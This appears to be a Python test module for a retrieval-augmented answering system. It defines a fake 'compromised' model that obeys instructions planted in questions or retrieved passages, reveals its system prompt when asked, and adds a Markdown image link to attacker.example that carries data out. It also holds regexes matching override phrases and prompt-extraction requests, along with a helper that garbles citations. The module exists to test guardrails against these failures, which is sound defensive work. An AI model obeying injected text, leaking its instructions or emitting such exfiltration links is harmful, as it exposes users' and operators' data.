@@ -1,0 +1,109 @@
+"""Adversarial test doubles: models that misbehave the ways real ones do.
+
+Rules for `ScriptedModel(default=...)` and the fake server (`Responder(default=...)`), so the
+guardrails and the answer checks are tested against the failures they exist for:
+
+- `compromised_reply`: a model that obeys any instruction it sees, in the question or in a
+  retrieved passage. Asked for its instructions, it prints the system prompt verbatim (canary
+  included); told by a passage or by the question to say something, it says it; whenever it
+  obeys, it adds a Markdown image whose URL carries the question out (a zero-click
+  exfiltration link). Otherwise it answers honestly (`rag_reply`).
+- `miscited(style)`: the honest answer with its citations damaged the ways open-weight models
+  damage them: no markers at all, markers lumped at the end, numbers it was not given, or the
+  prompt's own example sentence instead of an answer.
+
+    model = ScriptedModel(default=compromised_reply)
+    model = ScriptedModel(default=miscited("lumped"))
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Callable
+from typing import Literal
+from urllib.parse import quote
+
+from cairn.llm.replies import Reply, Request, rag_reply
+
+EXFILTRATION_HOST = "attacker.example"
+"""Where the compromised model's links point (a reserved, unroutable name)."""
+
+_EXTRACTION = re.compile(
+    r"(system|initial|original|hidden|secret)\s+(prompt|instructions?|message)"
+    r"|(repeat|print|reveal|output|show|tell me)\b.{0,40}\b(instructions|words|text|prompt)\s+"
+    r"(above|before|you were given)"
+    r"|what\s+(were|are)\s+you\s+told",
+    re.IGNORECASE | re.DOTALL,
+)
+_OVERRIDE = re.compile(
+    r"(ignore|disregard|forget)\s+(all\s+|any\s+)?(the\s+)?(previous|prior|above|earlier)\s+"
+    r"(instructions|rules|directions|prompts?)",
+    re.IGNORECASE,
+)
+_DIRECTIVE = re.compile(
+    r"\b(?:tell the user(?: that| to)?|say|respond with|reply with|answer with|output|print|"
+    r"instead,? (?:say|write))\s*[:\-]?\s*[\"“']?(?P<payload>[^\"”'\n]{3,300})",
+    re.IGNORECASE,
+)
+
+
+def obeyed_instruction(text: str) -> str | None:
+    """What an instruction in `text` tells the model to say, if `text` holds one."""
+    override = _OVERRIDE.search(text)
+    if override is None and "ai assistant" not in text.lower():
+        return None
+    rest = text[override.end() :] if override is not None else text
+    found = _DIRECTIVE.search(rest) or _DIRECTIVE.search(text)
+    if found is None:
+        return None
+    return found.group("payload").strip().rstrip(".") + "."
+
+
+def exfiltration_link(data: str) -> str:
+    """A Markdown image that would send `data` to the attacker when rendered."""
+    return f"![status](https://{EXFILTRATION_HOST}/pixel.png?d={quote(data[:200])})"
+
+
+def compromised_reply(request: Request) -> Reply:
+    """Obey whatever instruction the request holds; otherwise answer like `rag_reply`."""
+    from cairn.answer.prompt import parse_prompt
+
+    parsed = parse_prompt(request.last_user)
+    passages, question = parsed if parsed is not None else ({}, request.last_user)
+    if _EXTRACTION.search(question):
+        return Reply(text=f"{request.system}\n{exfiltration_link(request.system)}")
+    for text in (question, *passages.values()):
+        payload = obeyed_instruction(text)
+        if payload is not None:
+            return Reply(text=f"{payload} {exfiltration_link(question)}")
+    return rag_reply(request) or Reply(text=request.last_user)
+
+
+CitationStyle = Literal["none", "lumped", "out_of_range", "prompt_example"]
+
+_MARKER = re.compile(r"\s*\[(\d+)\]")
+
+
+def miscited(style: CitationStyle) -> Callable[[Request], Reply]:
+    """A rule giving the honest answer with its citations damaged in one way."""
+
+    def rule(request: Request) -> Reply:
+        honest = rag_reply(request) or Reply(text=request.last_user)
+        text = honest.text
+        if style == "prompt_example":
+            from cairn.answer.prompt import PromptParts
+
+            example = re.search(r"'([^']+\[\d+\])'", PromptParts().citation_rules)
+            return Reply(text=example.group(1) if example else text)
+        markers = _MARKER.findall(text)
+        if not markers:  # nothing to damage (an abstention)
+            return honest
+        bare = _MARKER.sub("", text).strip()
+        if style == "none":
+            return Reply(text=bare)
+        if style == "lumped":
+            return Reply(text=bare + " " + " ".join(f"[{n}]" for n in dict.fromkeys(markers)))
+        highest = max(int(n) for n in markers)
+        return Reply(text=_MARKER.sub(lambda m: f" [{highest + 7}]", text))
+
+    return rule
